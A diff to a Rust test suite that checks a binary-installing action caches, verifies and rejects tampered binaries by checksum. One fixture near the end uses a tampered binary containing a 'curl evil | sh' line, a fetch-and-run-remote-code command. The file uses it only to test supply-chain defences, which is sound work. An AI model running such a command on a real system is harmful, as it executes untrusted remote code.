@@ -618,6 +618,32 @@ fn the_action_installs_only_a_binary_whose_checksum_is_committed() {
         "newest listed: {log}"
     );
     assert_eq!(good.installed().as_deref(), Some(&binary[..]));
+    assert!(outputs.contains("downloaded=true"), "{outputs}");
+    let (code, _, outputs) = good.run("cache-key", &[]);
+    assert_eq!(code, 0);
+    assert!(
+        outputs.contains(&format!(
+            "cache-key=rotagate-rotagate-x86_64-unknown-linux-gnu-{}",
+            sha256_hex(binary)
+        )),
+        "{outputs}"
+    );
+    // The next job of the run finds the verified binary in the restored cache and does
+    // not download; a cached file that is not the listed one is ignored.
+    let _ = std::fs::remove_file(good.root.path().join("curl-args"));
+    let (code, log, outputs) = good.run("install", &[]);
+    assert_eq!(code, 0, "{log}");
+    assert!(log.contains("from this run's cache") && outputs.contains("downloaded=false"));
+    assert!(!good.root.path().join("curl-args").exists(), "no download");
+    std::fs::write(
+        good.root.path().join("temp/rotagate-cache/rotagate"),
+        b"poisoned",
+    )
+    .unwrap();
+    let (code, log, outputs) = good.run("install", &[]);
+    assert_eq!(code, 0, "{log}");
+    assert!(outputs.contains("downloaded=true"), "{outputs}");
+    assert_eq!(good.installed().as_deref(), Some(&binary[..]));
 
     let tampered = ActionDir::new(&[("0.2.0", &sums)], b"#!/bin/sh\ncurl evil | sh\n");
     let (code, log, outputs) = tampered.run("install", &[]);
